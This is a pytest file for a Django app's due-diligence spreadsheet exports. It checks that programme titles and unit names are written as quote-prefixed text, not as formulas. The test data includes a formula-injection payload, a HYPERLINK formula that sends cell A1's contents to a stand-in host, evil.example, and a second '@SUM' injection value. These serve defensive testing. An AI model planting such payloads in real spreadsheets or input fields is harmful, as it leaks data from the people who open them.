"""The due-diligence report's XLSX and the country brief's due-diligence sheet write a programme's title or a
unit's name that a spreadsheet would run as a formula as text, marked with the quote prefix."""

import io

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from egide.actors.models import Actor
from egide.duediligence.models import Decision, DiligenceAssessment
from egide.programmes.models import Programme
from tests.duediligence.diligence_world import World, assessment, world

__all__ = ["assessment", "world"]

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://evil.example/"&A1,"x")'
UNIT = "@SUM(1,2)"


def _formulas(book: Workbook) -> list[object]:
    return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _texts(book: Workbook) -> dict[object, bool]:
    return {cell.value: cell.quotePrefix for sheet in book for row in sheet.iter_rows() for cell in row}


@pytest.fixture
def client(assessment: DiligenceAssessment, world: World, member: User) -> Client:
    Programme.objects.filter(pk=world.programme.pk).update(title_en=TITLE)
    Actor.objects.filter(pk=world.unit.pk).update(name_en=UNIT)
    DiligenceAssessment.objects.filter(pk=assessment.pk).update(decision=Decision.SUPPORT, risk_level="low")
    client = Client()
    client.force_login(member)
    return client


@pytest.mark.parametrize(
    "address",
    [
        reverse("diligence:country-report-export", kwargs={"code": "CF"}),
        "programme",
    ],
)
def test_the_reports_spreadsheets_write_no_formula(client: Client, world: World, address: str) -> None:
    if address == "programme":
        address = reverse("diligence:programme-report-export", kwargs={"pk": world.programme.pk})
    book = load_workbook(io.BytesIO(client.get(address).content))
    assert _formulas(book) == []
    texts = _texts(book)
    assert texts[TITLE] is True
    assert texts[UNIT] is True


def test_the_country_briefs_due_diligence_sheet_writes_no_formula(client: Client) -> None:
    response = client.get(reverse("country-coordination-export", kwargs={"code": "CF"}))
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))  # type: ignore[attr-defined]
    assert "Due diligence" in book.sheetnames
    assert _formulas(book) == []
    texts = _texts(book)
    assert texts[TITLE] is True
    assert texts[UNIT] is True
